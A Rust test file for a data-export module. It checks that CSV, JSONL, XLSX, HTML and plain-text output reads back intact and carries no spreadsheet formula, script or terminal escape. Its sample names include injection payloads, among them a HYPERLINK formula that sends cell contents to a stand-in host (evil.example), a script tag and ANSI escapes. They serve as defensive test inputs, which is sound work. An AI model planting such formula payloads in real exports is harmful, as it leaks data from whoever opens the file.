//! Each format with what is apt to break it, read back with a library that did not write it.

use std::borrow::Cow;

use calamine::{Data, DataType, Reader, Xlsx, open_workbook};
use domain::Timestamp;
use domain::table::{Cell, CellKind, Column};
use proptest::prelude::*;

use super::*;

fn table() -> Table {
    let column = |name, kind| Column { name, kind };
    Table {
        title: "Recipients of <b>Spring</b> & \"more\"".to_owned(),
        columns: vec![
            column("name", CellKind::Text),
            column("opens", CellKind::Int),
            column("sentAt", CellKind::Time),
            column("inCrm", CellKind::Bool),
        ],
    }
}

/// What people have been called.
fn names() -> Vec<String> {
    let mut names: Vec<String> = [
        "Erika Muster",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+49 30 1234",
        "-1+1",
        "@SUM(A1:A9)",
        "a;=1+1;b",
        "a\t+1\tb",
        "a|-1",
        "a, \"@SUM(1)",
        "a;",
        "a\n",
        "\t=1+1",
        "\r=1+1",
        "<script>alert('x')</script>",
        "O'Brien & \"Söhne\", KG; 'quoted'",
        "two\r\nlines\nand\rmore",
        "👩‍👩‍👧 Ελλάς 日本語 \u{202e}redrow",
        "_x000D_ and _x0041_",
        "bell \u{7} escape \u{1b}[31m",
        "''",
        " spaces around ",
        "true",
        "007",
        "1e5",
    ]
    .map(str::to_owned)
    .to_vec();
    names.push("ä".repeat(10_000));
    names
}

/// Writes a row for each name; the other cells are empty in every second one.
fn write(format: ExportFormat, names: &[String]) -> (tempfile::NamedTempFile, String) {
    let file = tempfile::NamedTempFile::new().expect("a file");
    let mut writer = Formats.begin(format, &table(), file.path()).expect("begun");
    for (index, name) in names.iter().enumerate() {
        let name = Cell::text(name);
        let row = if index % 2 == 0 {
            [name, Cell::Int(3), Cell::Time(Timestamp::from_micros(1_769_851_800_123_456)), Cell::Bool(true)]
        } else {
            [name, Cell::Empty, Cell::Empty, Cell::Empty]
        };
        writer.write(&row).expect("written");
    }
    writer.finish().expect("finished");
    let bytes = std::fs::read(file.path()).expect("a file");
    (file, String::from_utf8_lossy(&bytes).into_owned())
}

#[test]
fn csv_comes_back_as_it_went_and_holds_no_formula() {
    let (_file, text) = write(ExportFormat::Csv, &names());
    assert!(text.starts_with("\u{feff}name,opens,sentAt,inCrm\r\n"), "a mark for Excel, and a heading");
    let mut reader = ::csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<::csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("CSV");
    assert_eq!(rows.len(), names().len());
    for (index, (row, name)) in rows.iter().zip(names()).enumerate() {
        assert_eq!(row[0], *domain::table::defuse(&name));
        assert_eq!(domain::table::restore(&row[0]), name);
        let rest: Vec<&str> = row.iter().skip(1).collect();
        let full = ["3", "2026-01-31T09:30:00.123456Z", "true"];
        assert_eq!(rest, if index % 2 == 0 { full } else { ["", "", ""] });
    }
}

#[test]
fn json_lines_come_back_as_they_went() {
    let (_file, text) = write(ExportFormat::Jsonl, &names());
    let lines: Vec<serde_json::Value> =
        text.lines().map(|line| serde_json::from_str(line).expect("an object")).collect();
    for (index, (line, name)) in lines.iter().zip(names()).enumerate() {
        let time = "2026-01-31T09:30:00.123456Z";
        let wanted = if index % 2 == 0 {
            serde_json::json!({ "name": name, "opens": 3, "sentAt": time, "inCrm": true })
        } else {
            serde_json::json!({ "name": name, "opens": null, "sentAt": null, "inCrm": null })
        };
        assert_eq!(*line, wanted);
    }
    assert_eq!(lines.len(), names().len());
}

#[test]
fn a_workbook_comes_back_typed_as_it_went_and_holds_no_formula() {
    let (file, _) = write(ExportFormat::Xlsx, &names());
    let mut workbook: Xlsx<_> = open_workbook(file.path()).expect("a workbook");
    assert_eq!(workbook.sheet_names(), ["Sheet1"]);
    let cells = workbook.worksheet_range("Sheet1").expect("cells");
    let heading: Vec<String> = cells.rows().next().expect("a heading").iter().map(ToString::to_string).collect();
    assert_eq!(heading, ["name", "opens", "sentAt", "inCrm"]);
    for (index, (row, name)) in cells.rows().skip(1).zip(names()).enumerate() {
        assert_eq!(row[0], Data::String(name), "{index}");
        if index % 2 == 0 {
            assert_eq!((&row[1], &row[3]), (&Data::Float(3.0), &Data::Bool(true)));
            let Data::DateTime(time) = row[2] else { panic!("{:?}", row[2]) };
            assert_eq!(time.to_ymd_hms_milli(), (2026, 1, 31, 9, 30, 0, 0));
        } else {
            assert_eq!(row[1..], [Data::Empty, Data::Empty, Data::Empty]);
        }
    }
    assert_eq!(cells.height(), names().len() + 1);
    let formulas = workbook.worksheet_formula("Sheet1").expect("formulas");
    assert!(formulas.used_cells().next().is_none(), "{formulas:?}");
}

#[test]
fn a_text_that_is_too_long_for_excel_is_cut_off_where_everybody_sees_it() {
    let (file, _) = write(ExportFormat::Xlsx, &["🙂".repeat(20_000), "x".repeat(32_767)]);
    let mut workbook: Xlsx<_> = open_workbook(file.path()).expect("a workbook");
    let cells = workbook.worksheet_range("Sheet1").expect("cells");
    let text = |row| cells.get_value((row, 0)).expect("a cell").to_string();
    assert!(text(1).starts_with("🙂🙂") && text(1).ends_with("🙂… [cut off]"));
    assert!((32_765..=32_767).contains(&text(1).encode_utf16().count()));
    assert_eq!(text(2), "x".repeat(32_767));
}

#[test]
fn a_full_worksheet_is_followed_by_another() {
    let file = tempfile::NamedTempFile::new().expect("a file");
    let open = std::fs::File::create(file.path()).expect("a file");
    let mut writer = Box::new(xlsx::XlsxWriter::with_sheets_of(3, &table(), open, file.path()).expect("begun"));
    for number in 0..5 {
        writer.write(&[Cell::Empty, Cell::Int(number), Cell::Empty, Cell::Empty]).expect("written");
    }
    writer.finish().expect("finished");
    let mut workbook: Xlsx<_> = open_workbook(file.path()).expect("a workbook");
    let sheets = workbook.worksheets();
    let numbers = |cells: &calamine::Range<Data>| -> Vec<Data> {
        let second = |row: &[Data]| row.iter().find(|cell| !cell.is_empty()).cloned();
        cells.rows().skip(1).filter_map(second).collect()
    };
    let found: Vec<Vec<Data>> = sheets.iter().map(|(_, cells)| numbers(cells)).collect();
    let float = |numbers: &[f64]| numbers.iter().copied().map(Data::Float).collect::<Vec<_>>();
    assert_eq!(found, [float(&[0.0, 1.0]), float(&[2.0, 3.0]), float(&[4.0])]);
    for (name, cells) in &sheets {
        assert!(cells.rows().next().is_some_and(|row| row[0] == Data::String("name".to_owned())), "{name}");
    }
}

#[test]
fn a_page_runs_nothing_and_shows_every_text() {
    let (_file, page) = write(ExportFormat::Html, &names());
    assert!(page.starts_with("<!DOCTYPE html>") && page.ends_with("</html>\n"));
    let is_known = |tag: &str| {
        let name = tag.trim_start_matches('/').split([' ', '>']).next().unwrap_or_default();
        let known = "!DOCTYPE html head meta title style body table caption thead tbody tr th td";
        known.split(' ').any(|known| known == name)
    };
    let tags: Vec<&str> = page.split('<').skip(1).collect();
    assert!(tags.iter().all(|tag| is_known(tag)), "no tag that is not ours");
    assert!(page.contains("<title>Recipients of &lt;b&gt;Spring&lt;/b&gt; &amp; &quot;more&quot;</title>"));
    let unescaped = |cell: &str| {
        let marks = [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&#13;", "\r"), ("&amp;", "&")];
        marks.iter().fold(cell.to_owned(), |text, (from, to)| text.replace(from, to))
    };
    let first = |row: &str| unescaped(row.split("</td>").next().unwrap_or_default());
    let found: Vec<String> = page.split("<tr><td>").skip(1).map(first).collect();
    let defused: Vec<String> = names().iter().map(|name| domain::table::defuse(name).into_owned()).collect();
    assert_eq!(found, defused);
}

#[test]
fn plain_text_has_a_line_for_each_row_and_nothing_that_a_terminal_obeys() {
    let (_file, text) = write(ExportFormat::Text, &names());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), names().len() + 1);
    assert!(lines.iter().all(|line| line.matches('\t').count() == 3), "four columns each");
    assert!(text.chars().all(|c| !c.is_control() || c == '\t' || c == '\n'));
    assert!(text.contains("two⏎lines⏎and⏎more") && text.contains("bell ␇ escape ␛[31m") && text.contains("'⇥'=1+1"));
    assert!(text.contains("\na;'=1+1;b\t"));
}

/// A text in which what means something to spreadsheets is frequent.
fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![any::<String>(), "[ ab=+@;,|\"'\t\r\n＝\u{a0}-]{0,10}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Whatever a program takes for the separator, and whatever it thinks of quotation marks: no text becomes a formula.
    #[test]
    fn no_separator_makes_a_formula_of_a_text(texts in proptest::collection::vec(any_text(), 3 * 3)) {
        let columns = ["a", "b", "c"].map(|name| Column { name, kind: CellKind::Text }).to_vec();
        let table = Table { title: String::new(), columns };
        for format in [ExportFormat::Csv, ExportFormat::Text] {
            let file = tempfile::NamedTempFile::new().expect("a file");
            let mut writer = Formats.begin(format, &table, file.path()).expect("begun");
            for row in texts.chunks(3) {
                let cells: Vec<Cell<'_>> = row.iter().map(|text| Cell::text(text)).collect();
                writer.write(&cells).expect("written");
            }
            writer.finish().expect("finished");
            let bytes = std::fs::read(file.path()).expect("a file");
            let text = std::str::from_utf8(&bytes).expect("UTF-8").trim_start_matches('\u{feff}');
            for separator in [b',', b';', b'\t', b'|'] {
                for quoting in [true, false] {
                    let mut reader = ::csv::ReaderBuilder::new();
                    reader.delimiter(separator).quoting(quoting).flexible(true).has_headers(false);
                    for record in reader.from_reader(text.as_bytes()).records() {
                        for cell in &record.expect("a record") {
                            let seen = cell.trim_start_matches([' ', '"', '\u{a0}', '\u{feff}', '\0']);
                            let formula = ['=', '+', '-', '@', '＝'];
                            prop_assert!(!cell.starts_with(formula) && !seen.starts_with(formula), "{cell:?} in {text:?}");
                            // A file whose cells are separated by tabs has tabs at the beginning of its lines.
                            let is_blank = format == ExportFormat::Csv && cell.starts_with(['\t', '\r']);
                            prop_assert!(!is_blank, "{cell:?} in {text:?}");
                        }
                    }
                }
            }
            if format == ExportFormat::Csv {
                let mut reader = ::csv::Reader::from_reader(text.as_bytes());
                let cells = reader.records().map(|record| record.expect("a record"));
                let cells: Vec<String> = cells.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>()).collect();
                let restored: Vec<_> = cells.iter().map(|cell| domain::table::restore(cell).into_owned()).collect();
                prop_assert_eq!(&restored, &texts);
            }
        }
    }
}

fn any_cell() -> impl Strategy<Value = Cell<'static>> {
    prop_oneof![
        Just(Cell::Empty),
        any::<String>().prop_map(|text| Cell::Text(Cow::Owned(text))),
        any::<i64>().prop_map(Cell::Int),
        any::<i32>().prop_map(|seconds| Cell::Time(Timestamp::from_seconds(seconds.into()))),
        any::<bool>().prop_map(Cell::Bool),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Whatever the cells are, every format keeps the rows and columns apart.
    #[test]
    fn no_content_breaks_a_format(cells in proptest::collection::vec(any_cell(), 4 * 3)) {
        for format in ExportFormat::ALL {
            let file = tempfile::NamedTempFile::new().expect("a file");
            let mut writer = Formats.begin(*format, &table(), file.path()).expect("begun");
            for row in cells.chunks(4) {
                writer.write(row).expect("written");
            }
            writer.finish().expect("finished");
            let bytes = std::fs::read(file.path()).expect("a file");
            let text = String::from_utf8_lossy(&bytes);
            match format {
                ExportFormat::Csv => {
                    let records: Result<Vec<_>, _> = ::csv::Reader::from_reader(&bytes[3..]).into_records().collect();
                    prop_assert_eq!(records.expect("CSV").len(), 3);
                }
                ExportFormat::Xlsx => {
                    let mut workbook: Xlsx<_> = open_workbook(file.path()).expect("a workbook");
                    prop_assert!(workbook.worksheet_range("Sheet1").is_ok());
                }
                ExportFormat::Html => prop_assert_eq!(text.matches("<td").count(), 12),
                ExportFormat::Text => prop_assert_eq!(text.matches(['\t', '\n']).count(), 16),
                ExportFormat::Jsonl => {
                    let lines: Result<Vec<serde_json::Value>, _> = text.split_terminator('\n').map(serde_json::from_str).collect();
                    prop_assert_eq!(lines.expect("objects").len(), 3);
                }
            }
        }
    }
}
